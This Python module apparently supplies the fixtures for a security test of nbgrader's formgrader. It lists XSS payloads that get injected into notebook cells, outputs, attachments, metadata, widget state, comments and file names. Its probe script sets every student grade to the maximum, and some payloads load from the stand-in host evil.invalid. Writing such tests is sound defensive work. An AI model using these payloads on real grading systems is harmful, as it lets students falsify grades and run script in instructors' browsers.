"""Markup in a submission that tries to act for the instructor who reads it (issue 40 §1).

Each :class:`Payload` puts script where a page shows what a student handed in: markdown and raw
cells, attachments, outputs of every MIME type (as nbgrader's ``autograde`` keeps the outputs of
the student's code), cell and notebook metadata, an exception message, a grader's comment, a file
name. Every script it carries is :func:`probe` (or :func:`short_probe` where a ``/`` cannot go):
if it runs, it leaves a mark the test looks for in three independent places, and it does what the
attack of the issue did, giving the student full marks through formgrader's own models:

* ``window.PWNED`` gets the payload's name, and the page's title becomes ``PWNED <name>``;
* it logs ``PWNED <name>`` to the console and opens an ``alert`` (the test hooks both);
* it requests ``/pwned/<name>`` from the page's server (the test sees every request);
* on formgrader's page, it saves every grade at its maximum once formgrader has fetched the
  grades (it waits up to 3 minutes for that), as the issue's attack did (the test compares the
  gradebook). ``formgrader.loaded`` is not enough: it is set while the grades are still being
  fetched, when ``formgrader.grades`` is empty, so a probe that waited for it saved nothing.

Payloads that need a click (a ``javascript:`` link) are found by the test's scan of the page for
latent script: a ``javascript:`` URL, an event-handler attribute, a frame, an object, a form.
"""

from __future__ import annotations

import base64
import copy
import json
from collections.abc import Callable
from dataclasses import dataclass

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell


def probe(name: str) -> str:
    """JavaScript (single quotes only: it goes into double-quoted attributes) that marks the page
    in every way the test checks, and gives the student full marks on formgrader's page."""
    return (
        f"window.PWNED=(window.PWNED||[]).concat(['{name}']);document.title='PWNED {name}';"
        f"console.log('PWNED {name}');fetch('/pwned/{name}');"
        "(function t(k){if(window.formgrader&&formgrader.grades&&formgrader.grades.loaded){"
        "formgrader.grades.each("
        "function(g){g.save({manual_score:g.get('max_score')})})}"
        "else if(k<900){setTimeout(function(){t(k+1)},200)}})(0);"
        f"alert('PWNED {name}')"
    )


def short_probe(name: str) -> str:
    """The probe for a file name (no ``/``): a dialog and a mark."""
    return f"window.PWNED=['{name}'];alert('PWNED {name}')"


@dataclass(frozen=True)
class Payload:
    """One injection: ``add(nb)`` puts it into a notebook (in place)."""

    name: str
    where: str
    add: Callable[[nbformat.NotebookNode], None]


def _markdown(text: str) -> Callable[[nbformat.NotebookNode], None]:
    return lambda nb: nb.cells.append(new_markdown_cell(text))


def _output(output: dict) -> Callable[[nbformat.NotebookNode], None]:
    """A scratch code cell with ``output``, as nbgrader's autograde keeps what the code showed."""

    def add(nb: nbformat.NotebookNode) -> None:
        cell = new_code_cell("show()  # a student's scratch cell", execution_count=7)
        cell.outputs = [nbformat.from_dict(output)]
        nb.cells.append(cell)

    return add


def _raw_script(nb: nbformat.NotebookNode) -> None:
    cell = new_raw_cell(f"<script>{probe('raw-script')}</script>")
    cell.metadata["raw_mimetype"] = "text/html"
    cell.metadata["format"] = "text/html"
    nb.cells.append(cell)


def _attachment(nb: nbformat.NotebookNode) -> None:
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{probe("attachment")}"></svg>'
    html = f'<img src=x onerror="{probe("attachment")}">'
    cell = new_markdown_cell("![plot](attachment:plot.svg) ![page](attachment:page.html)")
    cell.attachments = {
        "plot.svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()},
        "page.html": {"text/html": base64.b64encode(html.encode()).decode()},
    }
    nb.cells.append(cell)


def _metadata(nb: nbformat.NotebookNode) -> None:
    # a tag holds no comma (nbformat's schema), so its script is the short probe
    quote = f'x" onmouseover="{short_probe("metadata")}" style="position:fixed;inset:0'
    cell = new_markdown_cell("A cell whose metadata is markup.")
    cell.metadata["tags"] = [quote, f'<img src=x onerror="{short_probe("metadata")}">']
    cell.metadata["nbgrader"] = {
        "grade": False,
        "solution": False,
        "locked": False,
        "grade_id": f'x"><img src=x onerror="{probe("metadata")}">',
        "schema_version": 3,
    }
    nb.cells.append(cell)
    nb.metadata["title"] = f"</title><script>{probe('metadata')}</script>"
    nb.metadata["language_info"] = {"name": f'python"><script>{probe("metadata")}</script>'}


def _cell_id(nb: nbformat.NotebookNode) -> None:
    """A cell id that is markup (nbformat allows ``[a-zA-Z0-9-_]`` only; nothing checks it before
    nbconvert writes it into an ``id`` attribute)."""
    cell = new_markdown_cell("A cell whose id is markup.")
    cell["id"] = f'x" onfocus="{probe("cell-id")}" autofocus tabindex="1'
    nb.cells.append(cell)


def _widgets(nb: nbformat.NotebookNode) -> None:
    model = {
        "model_name": f"</script><script>{probe('widget-state')}</script>",
        "model_module": "@jupyter-widgets/controls",
        "model_module_version": "2.0.0",
        "state": {"description": f'<img src=x onerror="{probe("widget-state")}">'},
    }
    nb.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "version_major": 2,
            "version_minor": 0,
            "state": {"x": model},
        }
    }
    _output(
        {
            "output_type": "display_data",
            "metadata": {},
            "data": {
                "application/vnd.jupyter.widget-view+json": {
                    "model_id": f"</script><script>{probe('widget-state')}</script>",
                    "version_major": 2,
                    "version_minor": 0,
                },
                "text/plain": "a widget",
            },
        }
    )(nb)


def _png(nb: nbformat.NotebookNode) -> None:
    _output(
        {
            "output_type": "display_data",
            "data": {"image/png": f'"><img src=x onerror="{probe("png-output")}">'},
            "metadata": {"image/png": {"width": f'1 onerror="{probe("png-output")}"'}},
        }
    )(nb)


def _execution_count(nb: nbformat.NotebookNode) -> None:
    cell = new_code_cell("1")
    cell.execution_count = f'<img src=x onerror="{probe("execution-count")}">'
    cell.outputs = [
        nbformat.from_dict(
            {
                "output_type": "execute_result",
                "execution_count": f'<img src=x onerror="{probe("execution-count")}">',
                "data": {"text/plain": "1"},
                "metadata": {},
            }
        )
    ]
    nb.cells.append(cell)


def _html(text: str) -> dict:
    return {"output_type": "display_data", "data": {"text/html": text}, "metadata": {}}


PAYLOADS = [
    Payload(
        "img-onerror",  # the issue's: a hidden image whose error handler runs
        "markdown cell",
        _markdown(f'<img src=x style="display:none" onerror="{probe("img-onerror")}">'),
    ),
    Payload("svg-onload", "markdown cell", _markdown(f'<svg onload="{probe("svg-onload")}">')),
    Payload(
        "script-tag",
        "markdown cell",
        _markdown(f"Hello\n\n<script>{probe('script-tag')}</script>\n"),
    ),
    Payload("raw-script", "raw cell marked text/html", _raw_script),
    Payload(
        "javascript-link",
        "markdown cell",
        _markdown(
            f"[my solution](javascript:{probe('javascript-link')}) "
            f'<a href="javascript:{probe("javascript-link")}">notes</a> '
            f'<a href=" JaVaScRiPt:{probe("javascript-link")}">more</a>'
        ),
    ),
    Payload(
        "iframe-srcdoc",
        "markdown cell",
        _markdown(
            f'<iframe srcdoc="&lt;script&gt;parent.{probe("iframe-srcdoc")}&lt;/script&gt;">'
            "</iframe>"
        ),
    ),
    Payload(
        "object-form-meta",
        "markdown cell",
        _markdown(
            f'<object data="javascript:{probe("object-form-meta")}"></object>'
            f'<embed src="javascript:{probe("object-form-meta")}">'
            f'<form action="javascript:{probe("object-form-meta")}"><button>Grade</button></form>'
            f'<meta http-equiv="refresh" content="0;url=javascript:{probe("object-form-meta")}">'
            '<base href="http://evil.invalid/">'
            '<style>@import url("http://evil.invalid/pwned.css");</style>'
        ),
    ),
    Payload(
        "details-ontoggle",
        "markdown cell",
        _markdown(f'<details open ontoggle="{probe("details-ontoggle")}"><summary>x</summary>'),
    ),
    Payload(
        "mathjax-macros",
        "markdown cell (a formula)",
        _markdown(
            f"$\\href{{javascript:{probe('mathjax-macros')}}}{{\\text{{click}}}}$ "
            "$\\unicode[some-font; src: url(http://evil.invalid/f)]{x41}$ "
            "$\\require{http://evil.invalid/pwned.js}$ "
            f"$\\class{{score}}{{x}}\\cssId{{notebook}}{{y}}\\style{{background:url(http://evil.invalid/s)}}{{z}}$"
        ),
    ),
    Payload(
        "html-output",
        "text/html output",
        _output(
            _html(
                f'<img src=x onerror="{probe("html-output")}">'
                f"<script>{probe('html-output')}</script>"
            )
        ),
    ),
    Payload(
        "isolated-html-output",
        "text/html output marked isolated",
        _output(
            {
                **_html(f"<script>parent.{probe('isolated-html-output')}</script>"),
                "metadata": {"text/html": {"isolated": True}},
            }
        ),
    ),
    Payload(
        "javascript-output",
        "application/javascript output",
        _output(
            {
                "output_type": "display_data",
                "data": {"application/javascript": probe("javascript-output")},
                "metadata": {},
            }
        ),
    ),
    Payload(
        "svg-output",
        "image/svg+xml output",
        _output(
            {
                "output_type": "display_data",
                "data": {
                    "image/svg+xml": (
                        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{probe("svg-output")}">'
                        f"<script>{probe('svg-output')}</script></svg>"
                    )
                },
                "metadata": {},
            }
        ),
    ),
    Payload(
        "markdown-output",
        "text/markdown output",
        _output(
            {
                "output_type": "display_data",
                "data": {"text/markdown": f'<img src=x onerror="{probe("markdown-output")}">'},
                "metadata": {},
            }
        ),
    ),
    Payload(
        "latex-output",
        "text/latex output",
        _output(
            {
                "output_type": "display_data",
                "data": {"text/latex": f"$\\href{{javascript:{probe('latex-output')}}}{{x}}$"},
                "metadata": {},
            }
        ),
    ),
    Payload("png-output", "image/png output and its metadata", _png),
    Payload(
        "stream-output",
        "printed text",
        _output(
            new_output(
                "stream",
                name="stdout",
                text=f"<script>{probe('stream-output')}</script>\x1b]8;;javascript:alert(1)\x07link",
            )
        ),
    ),
    Payload(
        "exception-message",
        "an exception's message and traceback",
        _output(
            new_output(
                "error",
                ename=f'<img src=x onerror="{probe("exception-message")}">',
                evalue=f"<script>{probe('exception-message')}</script>",
                traceback=[f'\x1b[31m<img src=x onerror="{probe("exception-message")}">\x1b[0m'],
            )
        ),
    ),
    Payload("widget-state", "widget state and a widget view", _widgets),
    Payload("attachment", "a markdown cell's attachments", _attachment),
    Payload("metadata", "cell and notebook metadata", _metadata),
    Payload("cell-id", "a cell id", _cell_id),
    Payload("execution-count", "an execution count", _execution_count),
]

# Not notebook content, set by the test where the page takes them from:
COMMENT = f'Well done <img src=x onerror="{probe("comment")}"> [see](javascript:{probe("comment")})'
FILE_NAME = f'<img src="x" onerror="{short_probe("file-name")}">.ipynb'  # a misnamed notebook
EXCEPTION = f'<img src=x onerror="{probe("raised")}">'  # what a solution cell raises

NAMES = [p.name for p in PAYLOADS] + ["comment", "file-name", "raised"]


def with_payloads(nb: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """A copy of ``nb`` with every payload added after its cells."""
    nb = copy.deepcopy(nb)
    for payload in PAYLOADS:
        payload.add(nb)
    return nb


def to_text(nb: nbformat.NotebookNode) -> str:
    """The notebook's JSON as a student's editor could save it (no validation: metadata of any
    shape, an execution count that is a string)."""
    return json.dumps(nb, indent=1)
